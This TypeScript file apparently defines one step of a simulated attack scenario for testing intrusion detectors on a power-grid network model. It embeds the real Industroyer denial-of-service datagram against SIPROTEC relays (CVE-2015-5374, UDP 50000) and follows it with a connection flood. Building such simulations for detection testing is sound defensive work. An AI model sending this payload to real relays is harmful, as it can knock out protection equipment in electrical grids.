import { Connection } from '../../network/connection.ts'
import { milliseconds } from '../../network/scheduler.ts'
import { power, relays, unknownClient } from '../site.ts'
import { defineStep } from '../step.ts'

const laptop = unknownClient(power)
/** Packet of Industroyer to SIPROTEC relays (CVE-2015-5374): 18 bytes to UDP 50000. */
const PORT = 50_000
const DATAGRAM = Uint8Array.of(0x11, 0x49, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x28, 0x9e)

/** One datagram that stops the relay, and a flood of connections for good measure. */
export const step = defineStep({
  id: 'relay-denial-of-service',
  kind: 'A',
  technique: 'T0814',
  actor: laptop,
  victims: [relays[3]!],
  engines: ['malware', 'anomaly'],
  says: 'denial|flood|siprotec|dos|service attack',
  *play(world) {
    const { network } = world
    for (let i = 0; i < 20; i++) {
      yield* network.udp(
        { host: laptop, port: network.freePort(laptop) },
        { host: relays[3]!, port: PORT },
        DATAGRAM,
      )
      yield milliseconds(30)
    }
    network.down.add(relays[3]!)
    for (let i = 0; i < 4000; i++) {
      yield* Connection.probe(network, laptop, { host: relays[3]!, port: 102 })
      yield milliseconds(4)
    }
    network.down.delete(relays[3]!)
  },
})
